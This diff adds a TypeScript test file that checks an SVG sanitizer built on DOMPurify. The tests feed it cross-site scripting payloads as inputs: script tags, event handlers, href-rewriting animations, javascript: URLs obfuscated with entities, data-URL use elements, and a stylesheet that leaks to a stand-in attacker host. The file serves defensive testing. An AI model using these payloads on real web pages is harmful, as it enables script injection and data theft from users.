@@ -0,0 +1,69 @@
+/**
+ * SVG Sanitizing Tests
+ *
+ * Run: bun test packages/ui/utils/sanitizeSvg.test.ts
+ */
+
+import { describe, expect, test } from "bun:test";
+import createDOMPurify from "dompurify";
+import { JSDOM } from "jsdom";
+import { sanitizeSvg } from "./sanitizeSvg";
+
+const { window } = new JSDOM("");
+const purifier = createDOMPurify(window as unknown as Parameters<typeof createDOMPurify>[0]);
+
+const svg = (body: string) =>
+  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${body}</svg>`;
+
+const sanitize = (body: string) => sanitizeSvg(svg(body), purifier);
+
+describe("sanitizeSvg", () => {
+  test("keeps a PlantUML diagram intact", () => {
+    const diagram =
+      '<?xml version="1.0" encoding="us-ascii" standalone="no"?>' +
+      svg('<g class="entity"><rect style="stroke:#181818;fill:#F1F1F1;" width="5" height="5"/><text x="1" y="4">User</text></g>' +
+        '<a href="https://example.com/docs" xlink:href="https://example.com/docs"><text>Docs</text></a>');
+    const result = sanitizeSvg(diagram, purifier);
+    expect(result).toContain('viewBox="0 0 10 10"');
+    expect(result).toContain('<g class="entity"><rect style="stroke:#181818;fill:#F1F1F1;"');
+    expect(result).toContain("<text x=\"1\" y=\"4\">User</text>");
+    expect(result).toContain('href="https://example.com/docs"');
+  });
+
+  test("removes scripts and event handlers", () => {
+    const result = sanitize('<script>alert(1)</script><rect onclick="alert(1)" onload="alert(1)" width="1"/>');
+    expect(result).not.toContain("script");
+    expect(result).not.toContain("onclick");
+    expect(result).not.toContain("onload");
+  });
+
+  test("removes animations that rewrite href", () => {
+    const result = sanitize(
+      '<a href="#"><animate attributeName="href" values="x;javascript:alert(1)"/><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'
+    );
+    expect(result).not.toContain("animate");
+    expect(result).not.toContain("<set");
+    expect(result).not.toContain("javascript");
+  });
+
+  test("removes javascript: urls hidden with whitespace entities", () => {
+    const result = sanitize('<a href="java&#9;script:alert(1)" xlink:href="java&#x0A;script:alert(1)"><text>x</text></a>');
+    expect(result).not.toMatch(/href/);
+    expect(result).toContain("<text>x</text>");
+  });
+
+  test("removes use elements pointing at data urls", () => {
+    expect(sanitize('<use href="data:image/svg+xml,&lt;svg id=x/&gt;#x"/>')).not.toContain("use");
+  });
+
+  test("removes stylesheets and foreign content", () => {
+    const result = sanitize(
+      '<style>* { background: url(https://attacker.example/leak) }</style>' +
+        '<foreignObject><iframe src="javascript:alert(1)"></iframe><div>html</div></foreignObject>'
+    );
+    expect(result).not.toContain("style");
+    expect(result).not.toContain("attacker");
+    expect(result).not.toContain("iframe");
+    expect(result).not.toContain("foreignObject");
+  });
+});